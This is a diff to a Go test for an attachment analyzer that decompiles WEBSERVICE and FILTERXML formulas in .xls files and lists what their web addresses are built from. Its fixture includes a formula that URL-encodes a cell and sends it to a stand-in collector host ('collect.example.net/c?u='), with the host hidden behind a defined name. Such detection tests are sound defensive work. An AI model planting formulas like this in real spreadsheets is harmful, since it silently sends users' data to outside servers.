@@ -203,26 +203,41 @@ func TestXLSVirtualPath(t *testing.T) {
 
 // TestXLSWebFormulasWrittenByLibreOffice: LibreOffice writes WEBSERVICE and
 // FILTERXML into an .xls as Excel does, future functions kept as hidden
-// names (_xlfn.WEBSERVICE) that the cells call; the cells that call one
-// come out decompiled as the member web-formulas, the others do not.
+// names (_xlfn.WEBSERVICE) that the cells call; the member web-formulas
+// then lists what their addresses are built from: the defined names, every
+// formula decompiled, and the string and number cells (shared strings,
+// numbers), each at its place.
 func TestXLSWebFormulasWrittenByLibreOffice(t *testing.T) {
-	cell := func(f string) string {
-		return `<table:table-row><table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>`
+	str := func(v string) string {
+		return `<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`
+	}
+	formula := func(f string) string {
+		return `<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`
+	}
+	row := func(cells ...string) string {
+		return `<table:table-row>` + strings.Join(cells, "") + `</table:table-row>`
 	}
 	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Rates">`+
-		cell(`COM.MICROSOFT.WEBSERVICE(&quot;http://203.0.113.7/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`)+
-		cell(`SUM(1;2)`)+
-		cell(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://feed.example.net/a.xml&quot;);&quot;//title&quot;)`)+
-		`</table:table></office:spreadsheet></office:body>`)
+		row(formula(`COM.MICROSOFT.WEBSERVICE([.A3]&amp;COM.MICROSOFT.ENCODEURL([.B1]))`), str("x")+`<table:table-cell/>`)+
+		row(formula(`SUM(1;2)`), `<table:table-cell office:value-type="float" office:value="42.5"><text:p>42.5</text:p></table:table-cell>`)+
+		row(formula(`&quot;https://&quot;&amp;site&amp;&quot;/c?u=&quot;`), `<table:table-cell/>`, str("collect.example.net"))+
+		row(formula(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://feed.example.net/a.xml&quot;);&quot;//title&quot;)`))+
+		`</table:table><table:named-expressions><table:named-range table:name="site" table:base-cell-address="$Rates.$A$1" table:cell-range-address="$Rates.$C$3"/></table:named-expressions></office:spreadsheet></office:body>`)
 	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"rates.fods": []byte(fods)})
 	if err != nil {
 		t.Fatal(err)
 	}
 	m := mail("rates", "see attached", "rates.xls", out["rates.fods"])
 	expand(t, m, Options{})
-	want := "Rates!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n" +
-		"Rates!R3C1: =_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"https://feed.example.net/a.xml\"),\"//title\")\n"
+	want := "' name site = R3C3\n" +
+		"Rates!R1C1: =_xlfn.WEBSERVICE(R3C1&_xlfn.ENCODEURL(R1C2))\n" +
+		"Rates!R1C2 = \"x\"\n" +
+		"Rates!R2C1: =SUM(1,2)\n" +
+		"Rates!R2C2 = \"42.5\"\n" +
+		"Rates!R3C1: =\"https://\"&site&\"/c?u=\"\n" +
+		"Rates!R3C3 = \"collect.example.net\"\n" +
+		"Rates!R4C1: =_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"https://feed.example.net/a.xml\"),\"//title\")\n"
 	if got := string(mustPart(t, m, "2/rates.xls/web-formulas").Content); got != want {
-		t.Errorf("web-formulas = %q, want %q", got, want)
+		t.Errorf("web-formulas =\n%s\nwant\n%s", got, want)
 	}
 }
